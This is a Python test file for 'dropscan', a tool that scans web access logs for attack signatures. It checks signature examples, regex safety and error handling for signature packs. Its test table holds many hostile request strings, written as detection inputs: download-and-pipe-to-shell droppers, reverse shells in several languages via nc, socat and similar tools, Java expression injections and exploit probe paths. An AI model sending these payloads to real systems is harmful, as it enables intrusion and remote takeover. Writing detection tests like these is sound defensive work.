"""The signature pack: every signature's own examples, the schema, the lint, and the breadth."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import GOOD_PACK, SAMPLE_LOGS, combined_line
from dropscan.detect.signatures import SignatureSet, lint_pattern
from dropscan.engine import default_signatures
from dropscan.errors import UsageError
from dropscan.formats.logformat import compile_format
from dropscan.selftest import lint_all, run_example

SIGS = default_signatures()
COMBINED = compile_format("combined")


@pytest.mark.parametrize("sig", SIGS.signatures, ids=lambda s: s.id)
def test_signature_examples(sig, full_scanner):
    assert sig.matches and sig.no_matches, "every signature needs match and no_match examples"
    failures = [
        r
        for r in (
            *(run_example(full_scanner, sig, ex, True) for ex in sig.matches),
            *(run_example(full_scanner, sig, ex, False) for ex in sig.no_matches),
        )
        if not r.ok
    ]
    assert not failures, [(r.example.text, r.problem) for r in failures]


def test_pack_breadth():
    assert len(SIGS) >= 25
    assert all(s.references for s in SIGS.signatures)
    cats = {s.category for s in SIGS.signatures}
    assert {"dropper", "reverse-shell", "jndi", "shellshock", "rfi", "ssrf", "rce", "rce-probe", "expression"} <= cats
    for s in SIGS.signatures:
        if s.category == "ssrf":  # high with an external destination, medium without (match.Hit.rank)
            assert s.severity == "high" and s.egress, s.id
        elif s.egress:
            assert s.severity == "critical", s.id
        if s.category == "rce-probe":
            assert s.severity == "medium" and not s.egress, s.id


def test_patterns_survive_adversarial_inputs():
    assert lint_all(SIGS, timeout=1.0) == []


@pytest.mark.parametrize("pattern", [r"(a+)+$", r"(?:\w*\s)*x", r"(a|b+)*", r"(?:x{2,})+"])
def test_lint_refuses_nested_unbounded(pattern):
    assert lint_pattern(pattern)


@pytest.mark.parametrize("pattern", [r"(?:ab)+", r"(?:a+b){1,8}", r"(?>a+)+", r"(?:a++)+", r"[(]+x", r"\(a+\)+"])
def test_lint_accepts_safe(pattern):
    assert lint_pattern(pattern) is None


def _pack(tmp_path, text, name="p.yaml"):
    (tmp_path / name).write_text(text)
    return tmp_path


GOOD = GOOD_PACK


def test_user_pack_loads(tmp_path):
    s = SignatureSet.load(_pack(tmp_path, GOOD))
    assert s.ids == ["my.rule"]


@pytest.mark.parametrize(
    ("mutate", "message"),
    [
        (lambda t: t.replace("category: rce", "category: nope"), "category must be one of"),
        (lambda t: t.replace("  references: [local]\n", ""), "missing references"),
        (lambda t: t.replace('no_match: ["/x?a=foo"]', "no_match: []"), "examples.no_match must be a non-empty list"),
        (lambda t: t.replace("';foo\\b'", "'(a+)+'"), "nested unbounded quantifier"),
        (lambda t: t.replace("';foo\\b'", "'(unclosed'"), "does not compile"),
        (lambda t: t.replace('[";foo"]', '["Foo"]'), "must be lower-case"),
        (lambda t: t + "  colour: red\n", "unknown key"),
        (lambda t: t + "\n: [", "is not valid YAML"),
    ],
)
def test_bad_pack_is_a_clear_error_naming_the_file(tmp_path, mutate, message):
    with pytest.raises(UsageError, match=message) as e:
        SignatureSet.load(_pack(tmp_path, mutate(GOOD)))
    assert "p.yaml" in str(e.value)


def test_duplicate_ids_refused(tmp_path):
    _pack(tmp_path, GOOD, "a.yaml")
    _pack(tmp_path, GOOD, "b.yaml")
    with pytest.raises(UsageError, match="already defined"):
        SignatureSet.load(tmp_path)


def test_every_signature_names_an_attack_technique():
    for s in SIGS.signatures:
        assert any(re.search(r"attack\.mitre\.org/techniques/T\d{4}", r) for r in s.references), s.id


# The breadth the detection issue asks for: (target, category, severity, destination or None).
BREADTH = [
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "rce-probe", "medium", None),
    ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "rce-probe", "medium", None),
    ("/GponForm/diag_Form?images/", "rce-probe", "medium", None),
    ("/ctrlt/DeviceUpgrade_1", "rce-probe", "medium", None),
    ("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array", "rce-probe", "medium", None),
    ("/index.php?XDEBUG_SESSION_START=phpstorm", "rce-probe", "medium", None),
    ("/boaform/admin/formPing", "rce-probe", "medium", None),
    (
        "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
        "rce-probe",
        "medium",
        None,
    ),
    (
        "/x.action?${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
        "expression",
        "high",
        None,
    ),
    ("/x?name=T(java.lang.Runtime).getRuntime().exec('id')", "expression", "high", None),
    ("/x?c=;fetch -o /tmp/x http://198.51.100.30/x", "dropper", "critical", "198.51.100.30:80"),
    ("/x?c=;ftpget -P 2121 198.51.100.31 a.sh a.sh", "dropper", "critical", "198.51.100.31:2121"),
    ("/x?c=;tftp -g -r m 198.51.100.32", "dropper", "critical", "198.51.100.32:69"),
    ("/x?c=;lynx -source http://198.51.100.33/x.sh>x.sh", "dropper", "critical", "198.51.100.33:80"),
    ("/x?c=;wget -qO- http://198.51.100.34/i.sh|sh", "dropper", "critical", "198.51.100.34:80"),
    ("/x?c=;curl http://198.51.100.35/i|bash", "dropper", "critical", "198.51.100.35:80"),
    (
        "/x?c=;python -c 'import socket;s=socket.socket();s.connect((\"198.51.100.36\",4444))'",
        "reverse-shell",
        "critical",
        "198.51.100.36:4444",
    ),
    ("/x?c=;perl -e 'use Socket;$i=\"198.51.100.37\";$p=4445;'", "reverse-shell", "critical", "198.51.100.37:4445"),
    ("/x?c=;php -r '$s=fsockopen(\"198.51.100.38\",4446);'", "reverse-shell", "critical", "198.51.100.38:4446"),
    (
        "/x?c=;ruby -rsocket -e'TCPSocket.open(\"198.51.100.39\",4447)'",
        "reverse-shell",
        "critical",
        "198.51.100.39:4447",
    ),
    ("/x?c=;nc -e /bin/sh 198.51.100.40 4448", "reverse-shell", "critical", "198.51.100.40:4448"),
    ("/x?c=;ncat 198.51.100.41 4449 -e /bin/bash", "reverse-shell", "critical", "198.51.100.41:4449"),
    ("/x?c=;socat tcp:198.51.100.42:4450 exec:sh", "reverse-shell", "critical", "198.51.100.42:4450"),
    (
        "/x?c=;telnet 198.51.100.43 4451 | /bin/sh | telnet 198.51.100.43 4452",
        "reverse-shell",
        "critical",
        "198.51.100.43:4451",
    ),
    ("/x?c=;python -c 'print(1)'", "rce", "high", None),
    ("/cgi-bin/ping.cgi?host=127.0.0.1;cat%20/etc/passwd", "rce", "high", None),
]


@pytest.mark.parametrize(("target", "category", "severity", "dest"), BREADTH, ids=[b[0][:60] for b in BREADTH])
def test_issue_breadth_and_severity_order(full_scanner, target, category, severity, dest):
    """Severity says what to read first: a dropper or reverse shell with a destination (critical)
    above command injection without a download (high) above a probe (medium)."""
    finding, _ = full_scanner.scan_line(combined_line(target.replace(" ", "%20")).rstrip(b"\n"), COMBINED)
    assert finding is not None
    assert (finding.category, finding.severity) == (category, severity), finding.rule_ids
    got = {f"{d.host}:{d.port}" for d in finding.egress}
    assert (dest in got) if dest else not got


# --- packs from elsewhere, through the console entry (so exit codes are the real ones) -------
def dropscan(*args: str, stdin: bytes | None = None) -> subprocess.CompletedProcess:
    exe = Path(sys.executable).with_name("dropscan")
    cmd = [str(exe)] if exe.exists() else [sys.executable, "-c", "from dropscan.cli import main; main()"]
    return subprocess.run([*cmd, *args], input=stdin, capture_output=True, timeout=120)


def one_error_line(p: subprocess.CompletedProcess) -> str:
    err = p.stderr.decode()
    assert p.returncode == 2 and "Traceback" not in err, err
    (line,) = err.splitlines()
    assert line.startswith("dropscan: error: ")
    return line.removeprefix("dropscan: error: ")


BAD_PACKS = [
    (lambda t: t + "\n: [", "p.yaml: line 12 is not valid YAML"),
    (lambda t: t.replace("  references: [local]\n", ""), "p.yaml: signature 'my.rule': missing references"),
    (lambda t: t + "  colour: red\n", "p.yaml: signature 'my.rule': unknown key(s) colour"),
    (lambda t: t.replace("category: rce", "category: nope"), "p.yaml: signature 'my.rule': category must be one of"),
    (lambda t: t.replace("';foo\\b'", "'(?:\\w+\\s)+;foo'"), "refused: nested unbounded quantifier"),
    (lambda t: t.replace("';foo\\b'", "'(unclosed'"), "does not compile"),
    (lambda t: "just a string\n", "p.yaml: expected a list of signatures"),
    (lambda t: t.replace('[";foo"]', '["Foo"]'), "keyword 'Foo' must be lower-case"),
]


@pytest.mark.parametrize(("mutate", "message"), BAD_PACKS)
def test_a_bad_pack_is_one_line_naming_the_file_and_exit_2(tmp_path, mutate, message):
    pack = _pack(tmp_path, mutate(GOOD))
    line = one_error_line(dropscan("scan", "--signatures", str(pack), str(SAMPLE_LOGS)))
    assert line.startswith(str(pack / "p.yaml")) and message in line


def test_every_command_that_takes_a_pack_refuses_a_bad_one(tmp_path):
    pack = _pack(tmp_path, GOOD.replace("';foo\\b'", "'(a+)+$'"))
    want = f"{pack / 'p.yaml'}: signature 'my.rule': pattern '(a+)+$' refused: nested unbounded quantifier"
    for args in (
        ["scan", "--signatures", str(pack), str(SAMPLE_LOGS)],
        ["explain", "--signatures", str(pack), "GET /x?a=;foo"],
        ["signatures", "test", str(pack)],
        ["signatures", "list", str(pack)],
    ):
        assert one_error_line(dropscan(*args)).startswith(want), args


def test_missing_empty_and_unreadable_packs(tmp_path):
    assert one_error_line(dropscan("scan", "-s", str(tmp_path / "nope"), "-")) == (
        f"{tmp_path / 'nope'}: no such signature file or directory"
    )
    (tmp_path / "empty").mkdir()
    assert one_error_line(dropscan("scan", "-s", str(tmp_path / "empty"), "-")) == (
        f"{tmp_path / 'empty'}: no *.yaml signature files"
    )
    (tmp_path / "latin1").mkdir()
    (tmp_path / "latin1" / "p.yaml").write_bytes(GOOD.replace("mine", "m\xefne").encode("latin-1"))
    line = one_error_line(dropscan("scan", "-s", str(tmp_path / "latin1"), "-"))
    assert line.startswith(f"{tmp_path / 'latin1' / 'p.yaml'}: cannot read signature file: ")


def test_a_pack_file_name_is_escaped_in_the_error(tmp_path):
    (tmp_path / "evil\x1b[2J.yaml").write_text(GOOD + "\n: [")
    line = one_error_line(dropscan("signatures", "list", str(tmp_path)))
    assert "\x1b" not in line and "evil\\x1b[2J.yaml" in line


def test_a_good_foreign_pack_drives_scan_explain_and_test(tmp_path):
    pack = _pack(tmp_path, GOOD)
    log = tmp_path / "access.log"
    log.write_bytes(combined_line("/x?a=;foo") + combined_line("/x?c=;wget http://203.0.113.9/a"))
    p = dropscan("scan", "-s", str(pack), "--no-builtin", str(log), "-f", "jsonl", "-j", "1")
    assert p.returncode == 1 and [json.loads(x)["rule_ids"] for x in p.stdout.splitlines()] == [["my.rule"]]
    # without --no-builtin the pack adds to the built-in one
    p = dropscan("scan", "-s", str(pack), str(log), "-f", "jsonl", "-j", "1")
    assert [json.loads(x)["rule_ids"][0] for x in p.stdout.splitlines()] == ["my.rule", "dropper.wget"]
    p = dropscan("explain", "-s", str(pack), "--no-builtin", combined_line("/x?a=;foo").decode().strip())
    assert p.returncode == 1 and b"MATCH my.rule (high) on view url" in p.stdout
    p = dropscan("signatures", "test", str(pack))
    assert p.returncode == 0 and b"1 signatures, 2 examples, 0 example failure(s), 0 lint failure(s)" in p.stdout


def test_patterns_that_backtrack(tmp_path):
    # (a|aa)* has no nested quantifier, yet backtracks exponentially: a scan has no clock to
    # stop it, so loading refuses it, before any line is read
    slow = GOOD.replace("';foo\\b'", "';foo(?:a|aa)*b'").replace('"/x?a=;foo"]', '"/x?a=;fooab"]')
    log = tmp_path / "access.log"
    log.write_bytes(combined_line("/x?a=;foo" + "a" * 60) * 3)
    p = dropscan("scan", "-s", str(_pack(tmp_path, slow)), str(log), "-f", "jsonl")
    assert p.returncode == 2 and p.stdout == b""
    assert b"unbounded repeat of a group with an alternation or a repeat inside" in p.stderr
    # adjacent repeats of one character are polynomial, not exponential: the static lint lets
    # them through, `signatures test` measures them on long adversarial inputs and fails them
    poly = GOOD.replace("';foo\\b'", "';foo\\s*a*\\s*a*x'").replace('"/x?a=;foo"]', '"/x?a=;fooax"]')
    p = dropscan("signatures", "test", str(_pack(tmp_path, poly)), "--timeout", "0.2")
    assert p.returncode == 1 and b"FAIL lint my.rule: pattern" in p.stdout


def test_every_built_in_pattern_compiles():
    """The built-in pack's patterns compile on first use (a user's pack is compiled when it
    loads), so this is where a built-in pattern that does not compile is caught."""
    import regex

    pats = [p for s in SignatureSet.load().signatures for p in s.patterns]
    assert len(pats) == sum(len(s.pattern_texts) for s in SIGS.signatures) >= 100
    assert all(isinstance(p, regex.Pattern) for p in pats)


def test_a_user_pattern_that_does_not_compile_is_refused_before_any_line_is_scanned(tmp_path):
    """Even when no line could ever reach it (its keyword is in no line): the user's pack is
    compiled when it loads, after the built-in pack it is added to."""
    pack = _pack(tmp_path, GOOD.replace("';foo\\b'", "'(unclosed'"))
    out = tmp_path / "out.jsonl"
    line = one_error_line(dropscan("scan", "--signatures", str(pack), "-o", str(out), str(SAMPLE_LOGS)))
    assert line.startswith(f"{pack / 'p.yaml'}: signature 'my.rule': pattern '(unclosed' does not compile")
    assert not out.exists()


def test_findings_are_the_same_whether_patterns_compile_before_or_during_the_scan():
    """A pattern compiles the first time a line needs it, in the middle of a chunk; no clock is
    read while matching, so that cannot change a finding (pool and Dask workers, which rebuild
    the pack and compile on their own first use, under load: tests/test_load.py)."""
    from dropscan.detect.scanner import Scanner

    kw = {"user_agent": "ua", "referer": "referer"}
    chunk = b"".join(
        combined_line(e.text) if e.field == "target" else combined_line(**{kw[e.field]: e.text})
        for s in SIGS.signatures
        for e in (*s.matches, *s.no_matches)
        if e.field in ("target", *kw)
    )
    runs = []
    for compile_first in (True, False):
        sigs = SignatureSet.load()
        if compile_first:
            for s in sigs.signatures:
                s.patterns  # noqa: B018 - compiled before the scan
        assert all(s._compiled is not None for s in sigs.signatures) == compile_first
        r = Scanner(sigs).scan_chunk(chunk, COMBINED, log_file="x.log")
        runs.append([(f.line_no, f.rule_ids, f.field, f.view, f.decoded, f.egress) for f in r.findings])
    assert runs[0] == runs[1] and len(runs[0]) >= len(SIGS.signatures)
